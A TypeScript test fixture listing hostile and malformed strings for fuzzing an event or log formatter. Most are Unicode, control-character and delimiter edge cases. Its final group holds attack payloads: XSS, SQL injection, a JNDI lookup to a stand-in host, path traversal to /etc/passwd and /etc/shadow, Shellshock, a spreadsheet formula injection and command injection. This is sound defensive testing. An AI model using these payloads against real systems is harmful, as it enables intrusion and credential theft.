/** Texts that trip up readers, written for this project. Each is put in the place of every value of an event. */

const range = (first: number, last: number): string =>
  String.fromCharCode(...Array.from({ length: last - first + 1 }, (_, k) => first + k));

export const TEXTS: readonly string[] = [
  // Values that a careless reader takes for something else than text.
  "null", "undefined", "NaN", "true", "-0", "1e309", "0x1f", "00", "1,5", "\u0661\u0662\u0663", "9007199254740993", "-", ".", "{}", "[]",
  // Controls, alone and all together.
  "\u0000", `a${range(0x00, 0x1f)}z`, "\u007f", range(0x80, 0x9f), "\t", "tab\tin between", "\r\n", "line\nline", "line\rline",
  "\u001b[2J\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u0008\u0008\u0008hidden",
  // Separators and spaces of Unicode.
  "\u2028", "a\u2029b", "\u0085", "\u00a0\u2003\u3000", " leading", "trailing ", "  ", "\ufeffmark",
  // Direction and invisibility.
  "\u202egnp.exe", "\u2066a\u2069\u2067b\u2069", "\u200f\u061c", "zero\u200bwidth\u200d\u2060", "soft\u00adhyphen", "\u{e0041}\u{e007f}",
  // Beyond the usual planes, and half of it.
  "\u{1f469}\u200d\u{1f692}", "\u{10ffff}", "\ufffe\uffff", "\ue000", "\ud800", "a\udc00\ud800b", "e\u0301\u0301\u0301\u0301", "\ufb01\u1e9e\u0130\u0131",
  // Quoting.
  '"', "\\", '\\"', "\\\\", "ends in \\", "'", "`", "\\u0041", "\\n\\r\\t", "%", "%zz", "%00", "%25252e", "%0d%0aSet-Cookie: a=1", "+", "a+b%2Bc",
  // The formats themselves.
  "|", "\\|", "=", "\\=", "a=b", "x=1 y=2", " cs1=forged cs1Label=Rules", "src=203.0.113.9 act=none", "CEF:0|A|b|1|c|d|0|act=x", "a\\\n=b", "=\\", "\\\\= |",
  '{"event":{"id":"forged"}}', '"},"akamai":{"siem":{}},"x":{"', '],"rules":[{', "}\n{", "a:b|c:d", ":", "|", "a|a|a", "x:1|x:2|:3",
  // Names that mean something to somebody.
  "__proto__", "constructor", "toString", "@timestamp", "_id", "event.id", "a.b.c", ".", "..", "$ref", "unmapped", "members",
  // What attackers send.
  "<script>alert(1)</script>", "<!--#exec cmd=\"ls\"-->", "' OR '1'='1", "; DROP TABLE events --", "${jndi:ldap://203.0.113.1/a}", "{{7*7}}",
  "../../../etc/passwd", "() { :;}; echo", "=cmd|' /C calc'!A0", "%s%n%x", "<![CDATA[x]]>", "|| ping -c 1 127.0.0.1", "file:///etc/shadow",
];

export const LONG_TEXTS: readonly string[] = [
  "A".repeat(40_000),
  "\u00e9".repeat(12_000),
  "\u0000".repeat(3_000),
  "=\\|\"".repeat(3_000),
  `${"[".repeat(5_000)}`,
  "k=v ".repeat(4_000),
];
